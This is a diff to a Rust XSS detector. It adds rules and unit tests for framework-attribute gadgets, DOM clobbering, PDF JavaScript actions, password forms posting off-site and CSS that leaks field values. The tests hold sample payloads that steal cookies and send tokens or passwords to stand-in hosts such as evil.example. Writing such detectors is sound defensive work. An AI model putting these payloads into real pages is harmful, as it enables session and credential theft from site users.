@@ -36,6 +36,10 @@ const SRCDOC: usize = 5;
 const TEMPLATE: usize = 6;
 const JS: usize = 7;
 const BREAKOUT: usize = 8;
+const GADGET: usize = 9;
+const CLOBBER: usize = 10;
+const PDF: usize = 11;
+const FORM: usize = 12;
 
 /// The XSS rules.
 pub(crate) static RULES: &[RuleInfo] = &[
@@ -58,7 +62,7 @@ pub(crate) static RULES: &[RuleInfo] = &[
     rule(
         "xss-css-expression",
         Severity::High,
-        "Script inside CSS (expression(), javascript: in url(), behavior, -moz-binding)",
+        "Script inside CSS (expression(), javascript: in url(), behavior, -moz-binding), or a style sheet that reads field values through [value^=...] selectors",
     ),
     rule(
         "xss-srcdoc",
@@ -79,6 +83,26 @@ pub(crate) static RULES: &[RuleInfo] = &[
         "xss-markup-breakout",
         Severity::Medium,
         "A value that closes the HTML comment it is placed in (-->, --!>)",
+    ),
+    rule(
+        "xss-framework-gadget",
+        Severity::High,
+        "A framework attribute that runs a script sink or loads markup from another site (hx-on, hx-get, x-init, @click, v-on:, ng-*)",
+    ),
+    rule(
+        "xss-dom-clobbering",
+        Severity::Medium,
+        "Markup that overrides a script's object: a form with an id whose named field carries a URL",
+    ),
+    rule(
+        "xss-pdf-action",
+        Severity::High,
+        "A PDF JavaScript action (/JS with code, /S /JavaScript)",
+    ),
+    rule(
+        "xss-credential-form",
+        Severity::High,
+        "Injected markup asking for a password and sending it to another site (a form with an absolute action and a password field)",
     ),
 ];
 
@@ -492,11 +516,16 @@ fn tag(b: &[u8], lt: usize, base: usize, hits: &mut Vec<Hit>) -> usize {
     } else {
         end
     };
-    if lower_eq(local, b"script") && !script_tag_named(b, lt, ne, end, tag_end) {
+    if lower_eq(local, b"script")
+        && !script_tag_named(b, lt, ne, end, tag_end)
+        && !data_block(b, ne, end)
+    {
         hit(hits, SCRIPT, base, lt, tag_end);
     }
     // "Add an <iframe> only for trusted embeds": a bare tag name loads nothing.
-    let embedding = EMBEDDING.iter().any(|t| lower_eq(local, t)) && b[ne..end].contains(&b'=');
+    let embedding = EMBEDDING.iter().any(|t| lower_eq(local, t))
+        && b[ne..end].contains(&b'=')
+        && !(lower_eq(local, b"iframe") && foreign_page_frame(b, ne, end));
     if embedding {
         hit(hits, TAG, base, lt, tag_end);
     }
@@ -523,6 +552,9 @@ fn tag(b: &[u8], lt: usize, base: usize, hits: &mut Vec<Hit>) -> usize {
         }
         if a.value.is_some() && is_event_name(an) {
             hit(hits, EVENT, base, a.name.0, ve);
+        }
+        if a.value.is_some() && framework_gadget(an, v) {
+            hit(hits, GADGET, base, a.name.0, ve);
         }
         if a.value.is_some() {
             // Any attribute: href, src, action, formaction, data, xlink:href,
@@ -581,11 +613,185 @@ fn tag(b: &[u8], lt: usize, base: usize, hits: &mut Vec<Hit>) -> usize {
         let body = &b[tag_end..tag_end + close];
         // An injected style sheet written in CSS escapes hides what it
         // names (`@\69mport`, `\65xpression`).
-        if css_is_dangerous(body) || (tag_end > ne && body.contains(&b'\\')) {
+        if css_is_dangerous(body)
+            || (tag_end > ne && body.contains(&b'\\'))
+            || css_reads_values(body)
+        {
             hit(hits, CSS, base, lt, tag_end + close);
         }
     }
     tag_end.max(lt + 1)
+}
+
+/// A style sheet that reads a field's value out character by character:
+/// `input[name=csrf][value^=a]{background:url(//x/a)}` fetches a URL only
+/// when the value starts with `a`. A selector on `value` by prefix, suffix
+/// or substring, and a `url(` to load.
+fn css_reads_values(body: &[u8]) -> bool {
+    if memchr::memmem::find(body, b"url(").is_none() {
+        return false;
+    }
+    let lower = body.to_ascii_lowercase();
+    memchr::memmem::find_iter(&lower, b"[value").any(|p| {
+        let rest = &lower[p + 6..];
+        let k = rest
+            .iter()
+            .take(4)
+            .take_while(|c| c.is_ascii_whitespace())
+            .count();
+        matches!(rest.get(k..k + 2), Some(b"^=" | b"$=" | b"*="))
+    })
+}
+
+/// `<form action=//elsewhere>` holding a password field: markup that asks
+/// for the user's password and sends it to another site.
+fn credential_form(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
+    let mut budget = 64;
+    let mut form: Option<usize> = None;
+    for lt in memchr::memchr_iter(b'<', b) {
+        if budget == 0 {
+            return;
+        }
+        budget -= 1;
+        let ns = lt + 1;
+        let ne = ns
+            + b[ns..]
+                .iter()
+                .take(16)
+                .take_while(|c| c.is_ascii_alphanumeric())
+                .count();
+        let name = &b[ns..ne];
+        let end = memchr::memchr2(b'>', b'<', &b[ne..]).map_or(b.len(), |o| ne + o);
+        if lower_eq(name, b"form") {
+            let mut foreign = false;
+            attributes(b, ne, end, |a| {
+                if let Some((vs, ve)) = a.value
+                    && (lower_eq(&b[a.name.0..a.name.1], b"action"))
+                {
+                    let v = b[vs..ve].trim_ascii().to_ascii_lowercase();
+                    foreign = v.starts_with(b"//")
+                        || v.starts_with(b"http://")
+                        || v.starts_with(b"https://");
+                }
+            });
+            form = foreign.then_some(lt);
+            continue;
+        }
+        let Some(f) = form else { continue };
+        if lower_eq(name, b"input") {
+            let mut password = false;
+            attributes(b, ne, end, |a| {
+                if let Some((vs, ve)) = a.value
+                    && lower_eq(&b[a.name.0..a.name.1], b"type")
+                {
+                    password = lower_eq(b[vs..ve].trim_ascii(), b"password");
+                }
+            });
+            if password {
+                hit(hits, FORM, base, f, end.min(b.len()));
+                return;
+            }
+        }
+    }
+}
+
+/// Whether the `<script>` whose attributes lie in `b[from..to]` is a data
+/// block: a `type` the browser does not run (`application/ld+json`,
+/// `application/json`, `text/plain`) and no `src`.
+fn data_block(b: &[u8], from: usize, to: usize) -> bool {
+    let mut data = false;
+    let mut src = false;
+    attributes(b, from, to, |a| {
+        let an = &b[a.name.0..a.name.1];
+        if lower_eq(an, b"src") {
+            src = true;
+        }
+        if let Some((vs, ve)) = a.value
+            && lower_eq(an, b"type")
+        {
+            let v = b[vs..ve].trim_ascii().to_ascii_lowercase();
+            data = v.ends_with(b"/json") || v.ends_with(b"+json") || v == b"text/plain";
+        }
+    });
+    data && !src
+}
+
+/// Attributes of an ordinary embedded page (a video, a map, a form from
+/// another service): layout, permissions and a title.
+const FRAME_ATTRS: &[&[u8]] = &[
+    b"src",
+    b"title",
+    b"width",
+    b"height",
+    b"allow",
+    b"allowfullscreen",
+    b"frameborder",
+    b"loading",
+    b"referrerpolicy",
+    b"sandbox",
+    b"class",
+    b"id",
+    b"style",
+    b"scrolling",
+    b"aria-label",
+];
+
+/// Whether the `<iframe>` whose attributes lie in `b[from..to]` only shows
+/// a page of another site over `https:`. Such a page runs in its own
+/// origin and cannot reach this one's script; what makes a frame an attack
+/// (a `javascript:` or `data:` source, `srcdoc`, a handler, a `name` for
+/// the framed page to read) is reported by the other checks.
+fn foreign_page_frame(b: &[u8], from: usize, to: usize) -> bool {
+    let mut https = false;
+    let mut plain = true;
+    attributes(b, from, to, |a| {
+        let an = &b[a.name.0..a.name.1];
+        if !FRAME_ATTRS.iter().any(|f| lower_eq(an, f)) {
+            plain = false;
+        }
+        if lower_eq(an, b"src") {
+            let v = a.value.map_or(&b[0..0], |(vs, ve)| &b[vs..ve]).trim_ascii();
+            https = v.len() > 8
+                && v[..8].eq_ignore_ascii_case(b"https://")
+                && v[8..].iter().all(|&c| {
+                    c.is_ascii_graphic() && !matches!(c, b'<' | b'>' | b'"' | b'\'' | b'`')
+                });
+        }
+    });
+    https && plain
+}
+
+/// Attributes that frameworks read as code or as a place to load markup
+/// from: htmx (`hx-get` and friends fetch HTML into the page, `hx-on`
+/// runs code), Alpine (`x-init`, `x-on:`, `@event`), Vue (`v-on:`) and
+/// AngularJS (`ng-click`, `ng-init`...). Reported when the value calls a
+/// script sink, or fetches from another site.
+fn framework_gadget(name: &[u8], v: &[u8]) -> bool {
+    let n = name.to_ascii_lowercase();
+    let n = n.strip_prefix(b"data-").unwrap_or(&n);
+    let fetches = [
+        &b"hx-get"[..],
+        b"hx-post",
+        b"hx-put",
+        b"hx-patch",
+        b"hx-delete",
+    ]
+    .contains(&n);
+    if fetches {
+        let v = v.trim_ascii();
+        let lower = v.to_ascii_lowercase();
+        return lower.starts_with(b"https://")
+            || lower.starts_with(b"http://")
+            || lower.starts_with(b"//");
+    }
+    let code = n.starts_with(b"hx-on")
+        || n.starts_with(b"x-on:")
+        || n == b"x-init"
+        || n == b"x-effect"
+        || n.starts_with(b"v-on:")
+        || (n.starts_with(b"@") && n.len() > 1)
+        || (n.starts_with(b"ng-") && n.len() > 3);
+    code && v.len() >= 3 && sink_candidate(v, classes(v))
 }
 
 /// `" onmouseover="alert(1)` / `' autofocus onfocus=alert(1) x='`.
@@ -904,6 +1110,9 @@ const SINKS: &[(&str, bool)] = &[
     ("print", true),
     ("btoa", true),
     ("globaleval", true),
+    // The Function constructor reached from any object:
+    // `[].constructor.constructor('code')()`.
+    ("constructor.constructor", true),
     ("document.cookie", false),
     ("document.write", false),
     ("document.domain", false),
@@ -949,6 +1158,9 @@ fn js_injection(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
         let called = j < b.len() && matches!(b[j], b'(' | b'`');
         let templated = s >= 2 && &b[s - 2..s] == b"${";
         if needs_call && !called && !templated {
+            if let Some(close) = sink_argument(b, s, e) {
+                hit(hits, JS, base, s, close);
+            }
             continue;
         }
         let close = if called {
@@ -959,6 +1171,16 @@ fn js_injection(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
         };
         // Breaking out of a JS string: quote, then operators, then the sink.
         let mut p = s;
+        // The sink may be a member of an expression: `');[].constructor...`.
+        if s > 0 && b[s - 1] == b'.' {
+            while p > 0
+                && s - p < 64
+                && (is_ident(b[p - 1])
+                    || matches!(b[p - 1], b'.' | b'[' | b']' | b'{' | b'}' | b'(' | b')'))
+            {
+                p -= 1;
+            }
+        }
         while p > 0
             && (b[p - 1].is_ascii_whitespace()
                 || matches!(b[p - 1], b'(' | b'[' | b'{' | b'!' | b'~'))
@@ -995,6 +1217,23 @@ fn js_injection(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
             }
         }
         let after_quote = ops > 0 && p > 0 && matches!(b[p - 1], b'"' | b'\'' | b'`');
+        // Or out of a number: `10-alert(1)-0` where a value lands in
+        // arithmetic. The number starts the value (or follows `name=`).
+        let after_number = ops > 0 && p > 0 && b[p - 1].is_ascii_digit() && {
+            let n = b[..p]
+                .iter()
+                .rev()
+                .take_while(|c| c.is_ascii_digit() || **c == b'.')
+                .count();
+            let lead = &b[..p - n];
+            let name = lead.strip_suffix(b"=").unwrap_or(lead);
+            let name = name.rsplit(|&c| c == b'&').next().unwrap_or(name);
+            (lead.is_empty() || (lead.ends_with(b"=") && form_name_len(name) == name.len()))
+                && b[close.min(b.len())..]
+                    .iter()
+                    .find(|c| !c.is_ascii_whitespace())
+                    .is_none_or(|c| matches!(c, b'-' | b'+' | b'*' | b'/' | b';' | b'%'))
+        };
         // Or the whole value is the sink: `alert(1)`, `eval(atob('...'))`,
         // `document.cookie`; not "alert(1) is the classic proof of concept".
         let rest = &b[close.min(b.len())..];
@@ -1009,7 +1248,17 @@ fn js_injection(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
                 b';' | b'/' | b'<' | b')' | b'\'' | b'"' | b'-' | b'+' | b'.' | b'[' | b'('
             );
         // What precedes the sink: nothing, or `new` (`new Function(...)`).
-        let lead = &b[..s];
+        // A line terminator ends a JavaScript comment or statement, the
+        // Unicode ones (U+2028, U+2029) included: `q=\u2028alert(1)//`.
+        let mut lead = &b[..s];
+        while let Some(l) = lead
+            .strip_suffix("\u{2028}".as_bytes())
+            .or_else(|| lead.strip_suffix("\u{2029}".as_bytes()))
+            .or_else(|| lead.strip_suffix(b"\n"))
+            .or_else(|| lead.strip_suffix(b"\r"))
+        {
+            lead = l;
+        }
         let lead_t = lead.trim_ascii();
         // A form body the engine could not split (`foo=document.x(...)`):
         // a parameter name and `=` start the value.
@@ -1053,10 +1302,48 @@ fn js_injection(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
         let whole = lead_ok && (called || !needs_call) && rest_ok;
         // `${alert}` in a tagged template: [].sort.call`${alert}1337`.
         let templated = s >= 2 && &b[s - 2..s] == b"${";
-        if after_quote || whole || templated {
+        if after_quote || after_number || whole || templated {
             hit(hits, JS, base, if after_quote { p - 1 } else { s }, close);
         }
     }
+}
+
+/// `Reflect.apply(alert, null, [1])`, `[1].map(eval)`, `setTimeout(alert)`:
+/// a sink (`alert`, `eval`, `confirm`) at `s..e` passed uncalled as an
+/// argument to a method or timer, which calls it. Returns the end of the
+/// argument list.
+fn sink_argument(b: &[u8], s: usize, e: usize) -> Option<usize> {
+    if !one_of(&b[s..e], PASSED) {
+        return None;
+    }
+    let mut p = s;
+    while p > 0 && s - p < 8 && b[p - 1].is_ascii_whitespace() {
+        p -= 1;
+    }
+    let mut q = e;
+    while q < b.len() && q - e < 8 && b[q].is_ascii_whitespace() {
+        q += 1;
+    }
+    if p == 0 || !matches!(b[p - 1], b'(' | b',') || !matches!(b.get(q), Some(b',' | b')')) {
+        return None;
+    }
+    // The `(` of the call: the one just before, or after a few arguments.
+    let lim = p.saturating_sub(96);
+    let open = (lim..p).rev().find(|&k| b[k] == b'(')?;
+    if b[open + 1..p].contains(&b')') {
+        return None;
+    }
+    let (callee, cs) = ident_before(b, open);
+    if cs + callee.len() != open {
+        return None;
+    }
+    let method = cs > 0 && b[cs - 1] == b'.';
+    let timer = one_of(callee, &[b"settimeout", b"setinterval"]);
+    if !(method || timer) || callee.is_empty() {
+        return None;
+    }
+    let close = memchr::memchr(b')', &b[q..(q + 128).min(b.len())]).map_or(q, |o| q + o + 1);
+    Some(close)
 }
 
 /// Whether `v` (after an `=`) is one string literal holding a path of the
@@ -1282,6 +1569,8 @@ const CALLED: &[&[u8]] = &[
     b"globaleval",
     b"fromcharcode",
 ];
+/// Sinks that run when passed to a caller (`[1].map(alert)`).
+const PASSED: &[&[u8]] = &[b"alert", b"eval", b"confirm"];
 /// Objects whose members are sinks.
 const OBJECTS: &[&[u8]] = &[
     b"document",
@@ -1301,7 +1590,11 @@ const MEMBERS: &[&[u8]] = &[b"innerhtml", b"outerhtml", b"fromcharcode"];
 fn sink_candidate(b: &[u8], m: u16) -> bool {
     if m & C_CALL != 0 {
         for p in memchr::memchr2_iter(b'(', b'`', b) {
-            if one_of(ident_before(b, p).0, CALLED) {
+            let id = ident_before(b, p).0;
+            if one_of(id, CALLED)
+                || lower_eq(id, b"constructor")
+                || one_of(ident_after(b, p + 1), PASSED)
+            {
                 return true;
             }
         }
@@ -1617,6 +1910,123 @@ fn high_bit_tags(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
     }
 }
 
+/// DOM clobbering: `<form id=config><input name=apiBase value=//x>` makes
+/// `config.apiBase` (or `window.config.apiBase`) the attacker's URL for any
+/// script that reads it. A form with an id, no action of its own, and a
+/// named field inside it whose value or link is an absolute URL.
+fn dom_clobbering(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
+    let mut form: Option<usize> = None;
+    let mut budget = 64;
+    for lt in memchr::memchr_iter(b'<', b) {
+        if budget == 0 {
+            return;
+        }
+        budget -= 1;
+        let closing = b.get(lt + 1) == Some(&b'/');
+        let ns = lt + 1 + usize::from(closing);
+        let ne = ns
+            + b[ns..]
+                .iter()
+                .take(16)
+                .take_while(|c| c.is_ascii_alphanumeric())
+                .count();
+        let name = &b[ns..ne];
+        if name.is_empty() {
+            continue;
+        }
+        let end = memchr::memchr2(b'>', b'<', &b[ne..]).map_or(b.len(), |o| ne + o);
+        if lower_eq(name, b"form") {
+            if closing {
+                form = None;
+                continue;
+            }
+            let (mut id, mut action) = (false, false);
+            attributes(b, ne, end, |a| {
+                let an = &b[a.name.0..a.name.1];
+                id |= (lower_eq(an, b"id") || lower_eq(an, b"name")) && a.value.is_some();
+                action |= lower_eq(an, b"action") || lower_eq(an, b"method");
+            });
+            form = (id && !action).then_some(lt);
+            continue;
+        }
+        let Some(f) = form else { continue };
+        if closing {
+            continue;
+        }
+        let (mut named, mut url) = (false, None);
+        attributes(b, ne, end, |a| {
+            let an = &b[a.name.0..a.name.1];
+            named |= (lower_eq(an, b"name") || lower_eq(an, b"id")) && a.value.is_some();
+            if let Some((vs, ve)) = a.value
+                && (lower_eq(an, b"value") || lower_eq(an, b"href") || lower_eq(an, b"src"))
+            {
+                let v = b[vs..ve].trim_ascii().to_ascii_lowercase();
+                if v.starts_with(b"//")
+                    || memchr::memmem::find(&v, b"://")
+                        .is_some_and(|p| p > 0 && v[..p].iter().all(u8::is_ascii_alphabetic))
+                {
+                    url = Some(ve);
+                }
+            }
+        });
+        if let (true, Some(ve)) = (named, url) {
+            hit(hits, CLOBBER, base, f, ve.max(f));
+            return;
+        }
+    }
+}
+
+/// A PDF JavaScript action: `/JS (app.launchURL\(...\))`, `/JS <hex>`,
+/// `/S /JavaScript`. PDF names are case-sensitive.
+fn pdf_action(b: &[u8], base: usize, hits: &mut Vec<Hit>) {
+    for p in memchr::memmem::find_iter(b, b"/JS") {
+        if p > 0 && b[p - 1].is_ascii_alphanumeric() {
+            continue;
+        }
+        let after = &b[p + 3..];
+        if after.starts_with(b"avaScript") {
+            // `/S /JavaScript`: the action type itself.
+            let before = b[..p].trim_ascii_end();
+            if before.ends_with(b"/S") {
+                hit(hits, PDF, base, before.len() - 2, p + 12);
+                return;
+            }
+            continue;
+        }
+        let k = after
+            .iter()
+            .take(4)
+            .take_while(|c| c.is_ascii_whitespace())
+            .count();
+        let body = &after[k..];
+        let code = match body.first() {
+            // A literal string with a call inside: `(app.alert\(1\))`.
+            Some(b'(') => {
+                let lim = body.len().min(512);
+                body[1..lim].windows(2).any(|w| w == b"\\(")
+                    || body[1..lim]
+                        .windows(2)
+                        .any(|w| is_ident(w[0]) && w[1] == b'(')
+            }
+            // A hex string or an indirect reference to a stream.
+            Some(b'<') => body.get(1).is_some_and(u8::is_ascii_hexdigit),
+            _ => false,
+        };
+        if code {
+            let e = p
+                + 3
+                + k
+                + body
+                    .iter()
+                    .take(512)
+                    .position(|&c| c == b'\n')
+                    .unwrap_or(body.len().min(512));
+            hit(hits, PDF, base, p, e);
+            return;
+        }
+    }
+}
+
 /// The checks for one value. `tags` is false inside an attribute value,
 /// which the tag scanner has already cut at the next `<`.
 fn analyse(b: &[u8], base: usize, hits: &mut Vec<Hit>, tags: bool) {
@@ -1646,6 +2056,13 @@ fn analyse(b: &[u8], base: usize, hits: &mut Vec<Hit>, tags: bool) {
                 lt + 1
             };
         }
+    }
+    if tags && m & C_LT != 0 && m & C_EQ != 0 {
+        dom_clobbering(b, base, hits);
+        credential_form(b, base, hits);
+    }
+    if m & C_SLASH != 0 && memchr::memmem::find(b, b"/JS").is_some() {
+        pdf_action(b, base, hits);
     }
     if m & C_EQ != 0 {
         attribute_breakout(b, base, hits);
@@ -1775,7 +2192,12 @@ fn trigger(b: &[u8], p: usize) -> bool {
         b':' => dangerous_scheme(b, p).is_some(),
         b'(' | b'`' => {
             let id = ident_before(b, p).0;
-            one_of(id, CALLED) || one_of(id, &[b"url", b"expression", b"call", b"apply"])
+            one_of(id, CALLED)
+                || one_of(
+                    id,
+                    &[b"url", b"expression", b"call", b"apply", b"constructor"],
+                )
+                || (b[p] == b'(' && one_of(ident_after(b, p + 1), PASSED))
         }
         b'$' | b'{' => at(1) == b'{',
         b'.' | b'[' => member_trigger(b, p),
@@ -1787,7 +2209,7 @@ fn trigger(b: &[u8], p: usize) -> bool {
                 || (rest.len() >= 11 && rest[..11].eq_ignore_ascii_case(b"moz-binding"))
                 || (p >= 3 && &b[p - 3..p] == b"ADw")
         }
-        b'/' => at(1) == b'*',
+        b'/' => at(1) == b'*' || (at(1) == b'J' && at(2) == b'S'),
         b'\\' => {
             (b.len() >= p + 4 && b[p + 1..p + 4].eq_ignore_ascii_case(b"xbc"))
                 || (letter_escape(b, p).is_some_and(|(_, len)| {
@@ -1967,6 +2389,155 @@ mod tests {
     fn benign(s: &str) {
         let ids = rules_for(s);
         assert!(ids.is_empty(), "{s:?} flagged: {ids:?}");
+    }
+
+    #[test]
+    fn data_blocks_and_foreign_frames() {
+        benign(
+            "<script type=\"application/ld+json\">{\"@type\":\"Event\",\"name\":\"Open day\"}</script>",
+        );
+        benign("<script type=application/json id=state>{\"page\":2}</script>");
+        attack(
+            "<script type=\"text/javascript\">x()</script>",
+            "xss-script-tag",
+        );
+        attack(
+            "<script type=module src=//evil.example/m.js></script>",
+            "xss-script-tag",
+        );
+        attack(
+            "<script type=application/json src=//evil.example/a></script>",
+            "xss-script-tag",
+        );
+        attack("<script type=importmap>{}</script>", "xss-script-tag");
+        benign(
+            "<iframe src=\"https://maps.example.org/embed?q=harbour\" width=600 height=450 loading=lazy allowfullscreen></iframe>",
+        );
+        attack(
+            "<iframe src=\"http://evil.example/x.html\"></iframe>",
+            "xss-embedding-tag",
+        );
+        attack("<iframe src=//evil.example/x.html>", "xss-embedding-tag");
+        attack(
+            "<iframe src=\"https://evil.example/\" name=\"x\"></iframe>",
+            "xss-embedding-tag",
+        );
+        attack(
+            "<iframe src=\"https://a.example/\" onload=alert(1)>",
+            "xss-event-handler",
+        );
+        attack(
+            "<object data=\"https://evil.example/x.swf\">",
+            "xss-embedding-tag",
+        );
+    }
+
+    #[test]
+    fn framework_gadgets() {
+        attack(
+            "<div hx-get=\"https://evil.example/frag.html\" hx-trigger=\"load\"></div>",
+            "xss-framework-gadget",
+        );
+        attack(
+            "<p data-hx-post=//evil.example/x hx-trigger=load>",
+            "xss-framework-gadget",
+        );
+        attack(
+            "<div x-init=\"$el.remove(); self.alert(1)\">",
+            "xss-framework-gadget",
+        );
+        attack(
+            "<a @mouseover=\"top.eval(name)\">x</a>",
+            "xss-framework-gadget",
+        );
+        attack(
+            "<input ng-focus=$event.view.confirm(1) autofocus>",
+            "xss-framework-gadget",
+        );
+        benign("<button hx-post=\"/clicked\" hx-swap=\"outerHTML\">Click</button>");
+        benign(
+            "<div x-data=\"{ open: false }\"><button @click=\"open = !open\">Menu</button></div>",
+        );
+        benign("<li ng-repeat=\"item in items\" ng-click=\"select(item)\">{{item.name}}</li>");
+    }
+
+    #[test]
+    fn forms_and_style_sheets_that_leak() {
+        attack(
+            "<form action=\"https://collector.example/l\"><input name=u><input type=password name=p></form>",
+            "xss-credential-form",
+        );
+        benign(
+            "<form action=\"/login\" method=post><input name=u><input type=\"password\" name=p></form>",
+        );
+        benign("<form action=\"https://pay.example/checkout\"><input name=amount value=5></form>");
+        attack(
+            "<style>input[name=token][value$=\"9\"]{background:url(//x.example/9)}</style>",
+            "xss-css-expression",
+        );
+        benign("<style>a[href^=\"http\"]{background:url(/img/ext.svg) no-repeat}</style>");
+    }
+
+    #[test]
+    fn dom_clobbering() {
+        attack(
+            "<form id=settings><input name=uploadUrl value=\"https://evil.example/u\"></form>",
+            "xss-dom-clobbering",
+        );
+        attack(
+            "<form name=cfg><img name=cdn src=//evil.example/lib></form>",
+            "xss-dom-clobbering",
+        );
+        benign(
+            "<form id=login action=\"/session\" method=post><input name=next value=\"https://shop.example/account\"></form>",
+        );
+        benign("<form id=search><input name=q value=\"shoes\"></form>");
+    }
+
+    #[test]
+    fn script_context_breakouts() {
+        // Arithmetic around a number.
+        attack("qty=3*confirm(document.domain)*1", "xss-js-injection");
+        attack("7-prompt(1)-7", "xss-js-injection");
+        benign("The total is 10-print(receipt) pages");
+        // Unicode line terminators end a comment or statement.
+        attack("q=\u{2028}alert(document.domain)//", "xss-js-injection");
+        attack("\u{2029}confirm(1)", "xss-js-injection");
+        // The Function constructor reached through an object.
+        attack(
+            "x\";[].constructor.constructor('return document.cookie')();//",
+            "xss-js-injection",
+        );
+        attack(
+            "'-{}.constructor.constructor('alert(1)')()-'",
+            "xss-js-injection",
+        );
+        benign("Every class has a constructor(props) { super(props); } method");
+        // A sink handed to something that calls it.
+        attack("cb=Reflect.apply(confirm,window,[1])", "xss-js-injection");
+        attack("[1].map(alert)", "xss-js-injection");
+        attack("setTimeout(eval, 0, name)", "xss-js-injection");
+        benign("results = list(map(print, rows))");
+        benign("if (confirm) { save(); }");
+        benign("Use modals (alert, confirm) sparingly.");
+    }
+
+    #[test]
+    fn pdf_actions() {
+        attack(
+            "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
+            "xss-pdf-action",
+        );
+        attack(
+            "/OpenAction << /JS (this.submitForm\\('https://evil.example'\\)) >>",
+            "xss-pdf-action",
+        );
+        attack(
+            "/AA << /O << /JS <6170702E616C657274283129> >> >>",
+            "xss-pdf-action",
+        );
+        benign("The /JS (scripts) folder holds the bundles.");
+        benign("See /js (lower case) and /JSON docs");
     }
 
     #[test]
